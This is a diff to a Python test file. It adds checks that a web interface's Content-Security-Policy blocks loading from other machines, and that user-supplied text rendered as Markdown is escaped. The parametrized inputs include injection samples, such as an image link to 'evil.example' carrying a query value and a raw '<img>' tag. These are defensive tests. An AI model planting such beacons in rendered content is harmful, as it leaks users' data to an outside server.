@@ -3,6 +3,7 @@
 import asyncio
 import json
 import os
+import re
 import signal
 import socket
 import subprocess
@@ -16,7 +17,8 @@ from typing import Any
 import httpx
 import pytest
 
-from storymesh.orchestration.browser_guard import BrowserGuard
+from storymesh.orchestration.assets.narratives import records_markdown
+from storymesh.orchestration.browser_guard import HEADERS, BrowserGuard
 from storymesh.orchestration.unguarded_server import is_below_unguarded_server
 from tests.support.harbour import make_harbour
 from tests.support.paths import importable
@@ -256,6 +258,29 @@ def test_it_is_refused(attack: str) -> None:
 @pytest.mark.parametrize("use", ANSWERED)
 def test_it_is_answered(use: str) -> None:
     assert answer(ANSWERED[use]) in (101, 200)
+
+
+def test_no_text_in_the_interface_loads_anything_from_another_machine() -> None:
+    """A picture in the Markdown of a team or an author would tell its server what a template writes in its address."""
+    policy = dict(HEADERS)[b"content-security-policy"].decode()
+    allowed = {part.split()[0]: part.split()[1:] for part in policy.split("; ")}
+    for kind in ("img-src", "media-src", "font-src", "frame-src", "form-action"):
+        assert set(allowed[kind]) <= {"'self'", "data:", "blob:"} and "'self'" in allowed[kind]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![](https://evil.example/?who=Ada)", "[click](https://evil.example)", "<img src=https://evil.example>",
+        "[x]: https://evil.example", "| a |\n| - |", "```\n# head", "> > quote", "**bold**", "$x$", "&lt;b&gt;",
+        "<!-- hidden -->", "\u2028# head", "\r# head",
+    ],
+)  # fmt: skip
+def test_a_story_is_no_markup_in_the_interface(text: str) -> None:
+    shown = records_markdown([{"id": f"report/{text}", "case_id": text, "text": text, "at": None}])
+    plain = re.sub(r"\\.|&\w+;", "", shown.replace("### ", "", 1).replace("**text**", "", 1))
+    assert not re.search(r"[`*\[\]<|$!#]|^>.*>", plain, re.MULTILINE), shown
+    assert all(line.startswith(("### ", "**text**", "> ")) or not line for line in shown.split("\n"))
 
 
 def test_a_name_in_the_settings_is_answered_also_behind_a_proxy() -> None:
